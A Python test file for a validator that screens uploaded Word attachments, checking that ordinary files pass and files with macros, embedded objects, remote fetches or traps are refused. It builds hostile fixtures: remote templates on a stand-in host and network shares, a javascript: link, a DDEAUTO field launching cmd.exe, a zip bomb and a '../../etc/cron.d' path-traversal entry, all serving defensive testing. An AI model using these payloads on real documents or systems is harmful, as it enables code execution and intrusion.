"""Word files that are only passed on: what runs or fetches is refused, what Word itself writes is not."""

import io
import zipfile

import pytest

from operations.attachments.word import check_attached_word
from storage.errors import StorageError
from tests.asvs.watching import memory_peak
from tests.documents.word_files import changed, in_body, replaced, word

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONSHIPS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
MAIN = b"wordprocessingml.document.main+xml"


def related(kind: str, target: str, mode: str = "External") -> bytes:
    entry = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return replaced(word("tekst"), RELATIONSHIPS, b"</Relationships>", entry.encode())


def typed(kind: str) -> bytes:
    entry = f'<Override PartName="/word/x.bin" ContentType="{kind}"/></Types>'
    return replaced(word("tekst"), TYPES, b"</Types>", entry.encode())


def field(code: str) -> bytes:
    return in_body(f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'.encode())


def bomb() -> bytes:
    return changed(word("tekst"), {"word/media/image1.png": b"\0" * (200 << 20)})


ORDINARY = {
    "text": word("Verslag", "Noor leest graag."),
    "own template": related("attachedTemplate", "file:///S:\\Sjablonen\\Huisstijl.dotx"),
    "template by name": related("attachedTemplate", "Huisstijl.dotx"),
    "link": related("hyperlink", "https://www.example.nl/pagina?x=1"),
    "mail": related("hyperlink", "mailto:ilse@example.nl"),
    "link to a file of one's own": related("hyperlink", "file:///C:\\Users\\ilse\\verslag.docx"),
    "chart with its figures": related("package", "embeddings/Microsoft_Excel_Sheet1.xlsx", "Internal"),
    "page number": field("PAGE \\* MERGEFORMAT"),
}
ACTIVE = {
    "macro": changed(word("x"), {"word/vbaProject.bin": b"\0"}),
    "macro type": replaced(word("x"), TYPES, MAIN, b"ms-word.document.macroEnabled.main+xml"),
    "embedded program": typed("application/vnd.openxmlformats-officedocument.oleObject"),
    "control": typed("application/vnd.ms-office.activeX+xml"),
    "embedded object": related("oleObject", "embeddings/oleObject1.bin", "Internal"),
    "other file inside": related("package", "embeddings/x.docm", "Internal"),
    "add-in": related("webextension", "webextensions/1.xml", "Internal"),
    "piece of another file": related("aFChunk", "afchunk.mht", "Internal"),
    "chunk": in_body(b'<w:altChunk xmlns:r="http://x" r:id="rId9"/>'),
    "object": in_body(b"<w:p><w:r><w:object/></w:r></w:p>"),
}
FETCHING = {
    "template elsewhere": related("attachedTemplate", "https://kwaad.example/x.dotm"),
    "template on a share": related("attachedTemplate", "file://kwaad/x.dotm"),
    "template by a share's name": related("attachedTemplate", "\\\\kwaad\\x.dotm"),
    "picture elsewhere": related("image", "https://kwaad.example/x.png"),
    "script in a link": related("hyperlink", "javascript:alert(1)"),
    "link to a share": related("hyperlink", "\\\\kwaad\\deel"),
    "link that hides a share": related("hyperlink", "//kwaad/deel"),
    "frame": related("frame", "https://kwaad.example"),
    "field that starts a program": field("DDEAUTO c:\\\\windows\\\\cmd.exe"),
    "field that fetches": field("INCLUDEPICTURE &quot;https://kwaad.example/x.png&quot;"),
}
BROKEN = {
    "half": word("x")[:900],
    "zip": changed(b"PK\x05\x06" + b"\0" * 18, {"lees.txt": b"hallo"}),
    "document type": replaced(word("x"), "word/document.xml", b"<w:document", b"<!DOCTYPE x><w:document"),
    "bomb": bomb(),
    "many members": changed(word("x"), {f"word/{number}.bin": b"" for number in range(2_000)}),
    "out of its folder": changed(word("x"), {"../../etc/cron.d/x": b"kwaad"}),
}


@pytest.mark.parametrize("name", ORDINARY)
def test_an_ordinary_word_file_passes(name):
    check_attached_word(ORDINARY[name])


@pytest.mark.parametrize("name", ACTIVE)
def test_a_word_file_with_a_program_in_it_is_refused(name):
    with pytest.raises(StorageError, match="programma of een ander bestand"):
        check_attached_word(ACTIVE[name])


@pytest.mark.parametrize("name", FETCHING)
def test_a_word_file_that_fetches_something_is_refused(name):
    with pytest.raises(StorageError, match="haalt iets op"):
        check_attached_word(FETCHING[name])


@pytest.mark.parametrize("name", BROKEN)
def test_a_broken_or_trapped_file_is_refused_and_not_unpacked(name):
    with memory_peak() as grown, pytest.raises(StorageError, match="Bewaar het als pdf"):
        check_attached_word(BROKEN[name])
    assert grown[0] < 50 << 20


def test_another_office_file_is_no_word_file():
    workbook = replaced(word("x"), TYPES, MAIN, b"spreadsheetml.sheet.main+xml")
    with pytest.raises(StorageError, match="geen gewoon Word-bestand"):
        check_attached_word(workbook)


def test_a_word_file_in_another_dialect_is_not_looked_past():
    with zipfile.ZipFile(io.BytesIO(word("x"))) as archive:
        document = archive.read("word/document.xml")
    strict = document.replace(
        b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        b"http://purl.oclc.org/ooxml/wordprocessingml/main",
    )
    with pytest.raises(StorageError, match="geen gewoon Word-bestand"):
        check_attached_word(changed(word("x"), {"word/document.xml": strict}))
